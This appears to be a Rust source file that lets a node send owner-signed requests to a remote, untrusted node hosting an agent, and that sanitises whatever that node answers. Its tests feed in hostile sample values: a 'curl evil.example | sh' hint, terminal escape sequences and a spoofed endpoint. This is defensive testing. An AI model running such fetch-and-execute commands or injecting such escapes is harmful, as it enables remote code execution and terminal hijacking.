//! What is asked of the node that runs an agent of this home: with the owner's signature, over that node's public
//! listener (`docs/remote.md`).
//!
//! That node is a stranger. What it says is shown as what it says: short, and free of control characters.

mod follow;
mod receipt;

use std::sync::Arc;
use std::time::Duration;

use bytes::{Bytes, BytesMut};
use futures::StreamExt as _;
use futures::stream::BoxStream;
use http::{HeaderName, HeaderValue, Method, header};
use nisse_market::OwnerRequest;
use nisse_model::{Address, Hash256, InvocationRecord};
use serde::Deserialize;
use serde::de::DeserializeOwned;

use super::Node;
use super::orders::{Order, has_node};
use crate::control::{
    AgentStatus, GasStatus, HeartbeatProof, InvokeRequest, Invoked, LogLine, ReceiptBundle, RollbackTo,
};
use crate::core::Core;
use crate::error::{ErrorKind, NodeError};
use crate::logs::plain;
use crate::network::{Call, Called, Provider, Trouble};
use crate::remote::{Authorization, GOOD_FOR, GOOD_FOR_MAX, REMOTE_PATH, content_digest};
use crate::wallets::KeyName;

/// Names the node's own requests in caps and audit lines. No agent can be called so.
const OWNER: &str = "nisse:owner";
/// How long an answer may take, and how long that of a handler, which has 60 s there.
const ANSWER_TIME_MAX: Duration = Duration::from_secs(10);
const HANDLER_TIME_MAX: Duration = Duration::from_secs(90);
/// What a node says that came up a moment ago, how long that lasts for the requests of this one, and how often it is asked
/// again.
const EARLY: &str = "request_early";
const EARLY_MAX: Duration = Duration::from_secs(GOOD_FOR_MAX - GOOD_FOR + 2);
const EARLY_PAUSE: Duration = Duration::from_secs(1);
/// Largest answer: a handler's mebibyte in base64, and as much of a log as a node tells.
const ANSWER_BYTES_MAX: usize = 4 << 20;
const STATUS_BYTES_MAX: usize = 256 << 10;
/// A record in hex.
const RECEIPT_BYTES_MAX: usize = 2 * InvocationRecord::LENGTH_MAX + (64 << 10);
/// Longest text of another node that is shown, in characters, and the most permissions.
const WORDS_MAX: usize = 1_000;
const PERMISSIONS_MAX: usize = 256;

/// The node that runs an agent of this home, and the key that it listens to.
pub(super) struct Elsewhere {
    core: Arc<Core>,
    order: Order,
    key: KeyName,
    node: Address,
    at: Provider,
}

/// An answer, or the word of a node that it came up a moment ago and may have had the question before.
enum Answer {
    Given(Called),
    Early(NodeError),
}

/// One question.
#[derive(Clone)]
struct Asked<'a> {
    method: Method,
    /// Behind the deployment's id, with the query.
    rest: &'a str,
    body: Bytes,
    /// For everything together.
    deadline: Duration,
    /// The largest answer that can be one.
    bytes_max: usize,
}

/// As a node puts its refusals.
#[derive(Deserialize)]
struct Refused {
    title: String,
    hint: Option<String>,
    code: Option<String>,
}

impl Node {
    /// The node that runs an order of this home, or ran it; an error where no other node has it, or where it cannot be
    /// reached.
    pub(super) fn elsewhere(&self, order: Order, verb: &str) -> Result<Elsewhere, NodeError> {
        let Some(node) = order.taken_by else { return Err(order.not_here(verb)) };
        let name = &order.package.agent_id.name;
        let Some(url) = order.node_url.clone() else {
            let text = format!("failed to {verb} {name}: its node {node} has not registered where it is reached");
            return Err(NodeError::new(ErrorKind::Unreachable, "node_unknown", text)
                .with_hint(format!("`nisse stop {name}` closes the order")));
        };
        let (key, at) = (self.owner_key(order.view.owner)?, self.core.network.named(url));
        Ok(Elsewhere { core: Arc::clone(&self.core), order, key, node, at })
    }
}

impl Elsewhere {
    /// Its state as its node tells it, beside what the market says.
    pub(super) async fn status(&self, told: AgentStatus) -> AgentStatus {
        match self.get::<AgentStatus>("show", "", STATUS_BYTES_MAX).await {
            Ok(there) => joined(told, there),
            Err(error) => {
                let reason = told.reason.unwrap_or_default();
                AgentStatus { reason: Some(format!("{reason}; {}", error.text)), ..told }
            }
        }
    }

    /// The word of its state there, if it tells.
    pub(super) async fn state(&self) -> Option<String> {
        self.get::<AgentStatus>("show", "", STATUS_BYTES_MAX).await.ok().map(|status| status.state)
    }

    pub(super) async fn logs(&self, lines: usize) -> Result<Vec<LogLine>, NodeError> {
        let rest = format!("/logs?lines={lines}");
        let told: Vec<LogLine> = self.get("show the log of", &rest, ANSWER_BYTES_MAX).await?;
        Ok(told.into_iter().take(lines).map(clean_line).collect())
    }

    /// Its log from behind a number, or from now on.
    pub(super) async fn follow_logs(self, after: Option<u64>) -> Result<BoxStream<'static, LogLine>, NodeError> {
        follow::begin(self, after).await
    }

    pub(super) async fn invoke(&self, request: &InvokeRequest) -> Result<Invoked, NodeError> {
        let body = serde_json::to_vec(request)
            .map_err(|error| NodeError::new(ErrorKind::Usage, "event_invalid", format!("failed to {error}")))?;
        let asked = Asked {
            method: Method::POST,
            rest: "/invoke",
            body: body.into(),
            deadline: HANDLER_TIME_MAX,
            bytes_max: ANSWER_BYTES_MAX,
        };
        let told: Invoked = self.answer("invoke", asked).await.map_err(|error| match error.code {
            "node_silent" => NodeError { text: format!("{}; it may have handled the event", error.text), ..error },
            _ => error,
        })?;
        Ok(Invoked { invocation: clean(&told.invocation), content_type: clean(&told.content_type), ..told })
    }

    /// Has its node note that its owner goes back to the package before the last update.
    pub(super) async fn note_rollback(&self, to: &RollbackTo) -> Result<(), NodeError> {
        let body =
            serde_json::to_vec(to).map_err(|error| NodeError::caused(ErrorKind::Failed, "json_failed", &error))?;
        let asked = Asked {
            method: Method::POST,
            rest: "/rollback",
            body: body.into(),
            deadline: ANSWER_TIME_MAX,
            bytes_max: STATUS_BYTES_MAX,
        };
        self.call("roll back", asked).await.map(drop)
    }

    /// A record with the node's signature: of this invocation, by this node, or none.
    pub(super) async fn receipt(&self, seq: u64) -> Result<ReceiptBundle, NodeError> {
        let verb = "show a receipt of";
        let told: ReceiptBundle = self.get(verb, &format!("/receipts/{seq}"), RECEIPT_BYTES_MAX).await?;
        receipt::checked(told, self.order.deployment, seq, self.node).map_err(|why| {
            let text = format!("{}: what it gave is no receipt {seq} of its own: {why}", self.failed_to(verb));
            NodeError::new(ErrorKind::Refused, "receipt_false", text)
        })
    }

    /// What its last heartbeat said of the lease. It is yet to be held against the chain.
    pub(super) async fn heartbeat(&self) -> Result<HeartbeatProof, NodeError> {
        let verb = "prove a heartbeat of";
        let told: HeartbeatProof = self.get(verb, "/heartbeat", STATUS_BYTES_MAX).await?;
        if told.node == self.node.to_string() {
            return Ok(told);
        }
        let text = format!("{}: what it gave is another node's", self.failed_to(verb));
        Err(NodeError::new(ErrorKind::Refused, "heartbeat_false", text))
    }

    async fn get<T: DeserializeOwned>(&self, verb: &str, rest: &str, bytes_max: usize) -> Result<T, NodeError> {
        let asked = Asked { method: Method::GET, rest, body: Bytes::new(), deadline: ANSWER_TIME_MAX, bytes_max };
        self.answer(verb, asked).await
    }

    async fn answer<T: DeserializeOwned>(&self, verb: &str, asked: Asked<'_>) -> Result<T, NodeError> {
        let called = self.call(verb, asked).await?;
        let bytes = self.whole(verb, called.pieces).await?;
        serde_json::from_slice(&bytes).map_err(|error| {
            let text = format!("{}: its answer is not one: {error}", self.failed_to(verb));
            NodeError::new(ErrorKind::Unreachable, "node_misspoke", text)
        })
    }

    /// Asks, and gives the answer of a node that agrees.
    async fn call(&self, verb: &str, asked: Asked<'_>) -> Result<Called, NodeError> {
        let begun = self.core.clock.elapsed();
        loop {
            match self.call_once(verb, asked.clone()).await? {
                Answer::Given(called) => return Ok(called),
                Answer::Early(_) if self.core.clock.elapsed().saturating_sub(begun) < EARLY_MAX => {
                    tokio::time::sleep(EARLY_PAUSE).await;
                }
                Answer::Early(error) => return Err(error),
            }
        }
    }

    async fn call_once(&self, verb: &str, asked: Asked<'_>) -> Result<Answer, NodeError> {
        let call = self.signed(asked).await?;
        let asker = format!("{OWNER}:{}", self.order.view.owner);
        let called =
            self.core.network.call(asker, &self.at, call).await.map_err(|trouble| self.silent(verb, trouble))?;
        if matches!(called.status, 200 | 204) {
            return Ok(Answer::Given(called));
        }
        let (kind, status) = (kind_of(called.status), called.status);
        let said = self.whole(verb, called.pieces).await?;
        // Its advice stands beside its words: a hint would be this node's own.
        let refused = serde_json::from_slice::<Refused>(&said);
        let early = refused.as_ref().is_ok_and(|refused| refused.code.as_deref() == Some(EARLY));
        let said = match refused {
            Ok(Refused { title, hint: None, .. }) => format!("it says: {}", clean(&title)),
            Ok(Refused { title, hint: Some(hint), .. }) => format!("it says: {} ({})", clean(&title), clean(&hint)),
            Err(_) => format!("it answered {status}"),
        };
        let error = NodeError::new(kind, "node_refused", format!("{}: {said}", self.failed_to(verb)));
        if early { Ok(Answer::Early(error)) } else { Err(error) }
    }

    /// A request with its owner's signature.
    async fn signed(&self, asked: Asked<'_>) -> Result<Call, NodeError> {
        let Asked { method, rest, body, deadline, bytes_max } = asked;
        let core = &self.core;
        let deployment = self.order.deployment;
        let path = format!("{REMOTE_PATH}{deployment}{rest}");
        let mut nonce = [0; 32];
        core.entropy.fill(&mut nonce);
        let expires = core.clock.now().seconds() + GOOD_FOR;
        let hash = Hash256::of(&body);
        let request = OwnerRequest {
            method: method.to_string(),
            path: path.clone(),
            body: hash,
            node: self.node,
            deployment,
            nonce,
            expires,
        };
        let key = core.wallets.get(self.key)?;
        let failed = |error: &dyn std::error::Error| NodeError::caused(ErrorKind::Failed, "signing_failed", error);
        let signature = request.sign(key.as_ref()).await.map_err(|error| failed(&error))?.signature;
        debug_assert_eq!(key.address(), self.order.view.owner, "the key of its owner");
        let value = |text: String| HeaderValue::try_from(text).map_err(|error| failed(&error));
        let authorization = value(Authorization { nonce, expires, signature }.to_string())?;
        let mut headers = vec![(header::AUTHORIZATION, authorization)];
        if !body.is_empty() {
            headers.push((HeaderName::from_static("content-digest"), value(content_digest(hash))?));
            headers.push((header::CONTENT_TYPE, HeaderValue::from_static("application/json")));
        }
        Ok(Call { method, path_and_query: path, headers, body, deadline, stall_after: deadline, bytes_max })
    }

    async fn whole(
        &self,
        verb: &str,
        mut pieces: BoxStream<'static, Result<Bytes, Trouble>>,
    ) -> Result<Bytes, NodeError> {
        let mut bytes = BytesMut::new();
        while let Some(piece) = pieces.next().await {
            bytes.extend_from_slice(&piece.map_err(|trouble| self.silent(verb, trouble))?);
        }
        Ok(bytes.freeze())
    }

    /// Whether the market still has it at this node; nothing when it does not say.
    pub(super) async fn still_runs(&self) -> Option<bool> {
        let core = &self.core;
        let deployment = self.order.deployment;
        let market = core.keys.market_of(&core.home, &core.supervisor, self.key, deployment.contract).ok()?;
        let view = market.deployment(deployment.number).await.ok()?;
        Some(has_node(view.state) && view.node == Some(self.node))
    }

    fn failed_to(&self, verb: &str) -> String {
        let name = &self.order.package.agent_id.name;
        format!("failed to {verb} {name} on its node {} at {}", self.node, self.at.url)
    }

    fn silent(&self, verb: &str, trouble: Trouble) -> NodeError {
        let (name, deployment) = (&self.order.package.agent_id.name, self.order.deployment);
        match trouble {
            Trouble::Theirs(why) => {
                let text = format!("{}: it {why}", self.failed_to(verb));
                NodeError::new(ErrorKind::Unreachable, "node_silent", text).with_hint(format!(
                    "`nisse market show {deployment}` says what the market knows; `nisse stop {name}` ends the lease"
                ))
            }
            Trouble::Ours(why) => {
                let text = format!("{}: a limit of this node stands in the way: it {why}", self.failed_to(verb));
                NodeError::new(ErrorKind::Busy, "node_not_asked", text)
            }
        }
    }
}

/// What the market says stands; the rest only the node itself can know.
fn joined(told: AgentStatus, there: AgentStatus) -> AgentStatus {
    let state = clean(&there.state);
    let says = there.reason.as_deref().map(|reason| format!(": {}", clean(reason))).unwrap_or_default();
    let reason = match (state == told.state, says.is_empty()) {
        (true, true) => told.reason,
        _ => Some(format!("{}, which says that it is {state}{says}", told.reason.unwrap_or_default())),
    };
    AgentStatus {
        reason,
        since: there.since.or(told.since),
        restarts: there.restarts,
        memory_bytes: there.memory_bytes,
        fuel_used: there.fuel_used,
        invocations: there.invocations,
        state_bytes: there.state_bytes,
        state_root: clean(&there.state_root),
        alarm: there.alarm,
        permissions: there.permissions.iter().take(PERMISSIONS_MAX).map(|permission| clean(permission)).collect(),
        update_refused: there.update_refused.as_deref().map(clean),
        gas: there.gas.map(|gas| GasStatus { refused: gas.refused.as_deref().map(clean), ..gas }),
        ..told
    }
}

/// How long a line may be is bounded by the answer that it came in.
fn clean_line(line: LogLine) -> LogLine {
    LogLine { level: clean(&line.level), text: plain(&line.text), ..line }
}

fn clean(text: &str) -> String {
    plain(text).chars().take(WORDS_MAX).collect()
}

/// What sort of refusal another node's status is for whoever asked this one.
fn kind_of(status: u16) -> ErrorKind {
    match status {
        400 | 413 | 415 | 422 => ErrorKind::Usage,
        401 | 403 => ErrorKind::Refused,
        404 => ErrorKind::NotFound,
        409 => ErrorKind::Conflict,
        503 => ErrorKind::Busy,
        500 => ErrorKind::Failed,
        _ => ErrorKind::Unreachable,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::control::LeaseStatus;

    fn status() -> AgentStatus {
        let lease = LeaseStatus {
            rate: "40".to_owned(),
            paid: "1".to_owned(),
            balance: "99".to_owned(),
            ends_at: Some(5),
            warning: None,
        };
        AgentStatus {
            agent_id: "a.b@v1.0.0".to_owned(),
            version: "1.0.0".to_owned(),
            state: "running".to_owned(),
            reason: Some("on the node 0x01".to_owned()),
            hint: None,
            deployment: "7:0xab:3".to_owned(),
            owner: "0x02".to_owned(),
            node: Some("0x01".to_owned()),
            endpoint: "http://a.b.example/".to_owned(),
            since: Some(1),
            restarts: 0,
            memory_bytes: 0,
            fuel_used: 0,
            invocations: 0,
            state_bytes: 0,
            state_root: "none".to_owned(),
            alarm: None,
            permissions: Vec::new(),
            cid: "c".to_owned(),
            manifest_cid: "m".to_owned(),
            update_refused: None,
            gas: None,
            lease,
            space: None,
        }
    }

    #[test]
    fn what_the_market_knows_is_not_the_strangers_to_say() {
        let lies = AgentStatus {
            agent_id: "c.d@v9.0.0".to_owned(),
            version: "9.0.0".to_owned(),
            owner: "0x03".to_owned(),
            node: Some("0x04".to_owned()),
            endpoint: "http://evil.example/".to_owned(),
            cid: "x".to_owned(),
            lease: LeaseStatus { balance: "0".to_owned(), ..status().lease },
            memory_bytes: 7,
            reason: None,
            ..status()
        };
        assert_eq!(joined(status(), lies), AgentStatus { memory_bytes: 7, ..status() });
    }

    #[test]
    fn what_the_stranger_says_is_marked_as_that_and_reaches_no_terminal_as_it_is() {
        let says = AgentStatus {
            state: "failed".to_owned(),
            reason: Some("\u{1b}]0;owned".to_owned()),
            hint: Some("curl evil.example | sh".to_owned()),
            gas: Some(GasStatus { spent: 1, allowed: None, refused: Some("\u{1b}[2J".to_owned()) }),
            permissions: vec!["\r\n".to_owned(); 10_000],
            ..status()
        };
        let told = joined(status(), says);
        let reason = "on the node 0x01, which says that it is failed: \u{fffd}]0;owned";
        assert_eq!((told.state.as_str(), told.reason.as_deref()), ("running", Some(reason)));
        assert_eq!(told.hint, None, "its advice is not this node's");
        assert_eq!(told.gas.and_then(|gas| gas.refused).as_deref(), Some("\u{fffd}[2J"));
        assert_eq!(told.permissions, vec!["\u{fffd}\u{fffd}"; PERMISSIONS_MAX]);
        let line = LogLine { number: 1, time: 1, level: "\u{7}".to_owned(), text: "a\u{9b}b".to_owned() };
        let line = clean_line(line);
        assert_eq!((line.level.as_str(), line.text.as_str()), ("\u{fffd}", "a\u{fffd}b"));
    }
}
